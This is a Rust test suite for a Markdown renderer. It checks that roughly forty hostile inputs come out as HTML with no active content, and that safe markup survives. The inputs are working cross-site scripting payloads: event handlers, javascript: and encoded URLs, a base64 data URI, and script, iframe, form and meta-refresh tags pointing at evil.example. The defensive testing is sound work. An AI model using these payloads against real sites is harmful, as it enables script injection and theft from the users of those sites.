//! A hostile Markdown corpus through the body renderer: whatever an author
//! (or an attacker with an author's account) writes, the HTML that comes out
//! can run nothing.

mod common;

use herald::content::markdown::render_body;

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"evil.swf\"></object>",
    "<embed src=\"evil.swf\">",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=\"https://evil.example\"><input name=q></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div onclick=\"alert(1)\">click</div>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">ok</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<figure class=\"embed embed-youtube\" data-embed-id=\"x\" onclick=\"alert(1)\">x</figure>",
    "<blockquote class=\"pull-quote evil\" style=\"x\">q</blockquote>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>\n> [!PULLQUOTE]",
    "> [!PULLQUOTE]\n> <img src=x onerror=alert(1)>",
    "https://www.youtube.com/watch?v=abcdefghijk\"onmouseover=\"alert(1)",
    "https://x.com/a/status/1?<script>alert(1)</script>",
];

#[test]
fn hostile_markdown_renders_without_active_content() {
    for input in HOSTILE {
        let html = render_body(input);
        let page = format!("<!DOCTYPE html><html><body>{html}</body></html>");
        common::assert_no_active_content(&page);
        let lower = html.to_ascii_lowercase();
        assert!(!lower.contains("<script"), "{input:?} → {html}");
        assert!(!lower.contains("javascript:"), "{input:?} → {html}");
    }
}

#[test]
fn a_link_whose_url_was_refused_keeps_no_link_attributes() {
    // The W3C checker refuses rel on an <a> without href; a refused URL
    // leaves a placeholder <a>, and only real links carry rel.
    let html = render_body(
        "[one](javascript:alert(1)) and <a href=\"javascript:x\" title=\"a > b\">two</a> \
         and [three](https://example.org/)",
    );
    let doc = scraper::Html::parse_fragment(&html);
    let links = scraper::Selector::parse("a").expect("selector");
    let mut seen = 0;
    for link in doc.select(&links) {
        seen += 1;
        let has_href = link.value().attr("href").is_some();
        assert_eq!(link.value().attr("rel").is_some(), has_href, "{html}");
    }
    assert_eq!(seen, 3, "{html}");
    assert!(html.contains("title=\"a &gt; b\""), "{html}");
}

#[test]
fn code_shows_markup_as_text() {
    let html = render_body("`<script>alert(1)</script>`");
    assert!(html.contains("&lt;script&gt;"), "{html}");
}

#[test]
fn safe_author_markup_survives() {
    let html = render_body(
        "Some **bold** and <em>em</em>.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.org/x)\n",
    );
    assert!(html.contains("<strong>bold</strong>"), "{html}");
    assert!(html.contains("<em>em</em>"), "{html}");
    assert!(html.contains("<table>"), "{html}");
    assert!(html.contains("href=\"https://example.org/x\""), "{html}");
    assert!(
        html.contains("rel=\"noopener noreferrer nofollow\""),
        "{html}"
    );
}

#[test]
fn only_the_renderers_own_classes_survive() {
    let html =
        render_body("<blockquote class=\"pull-quote evil\">q</blockquote>\n\n<p class=\"x\">p</p>");
    assert!(html.contains("<blockquote class=\"pull-quote\">"), "{html}");
    assert!(
        !html.contains("evil") && !html.contains("class=\"x\""),
        "{html}"
    );
}
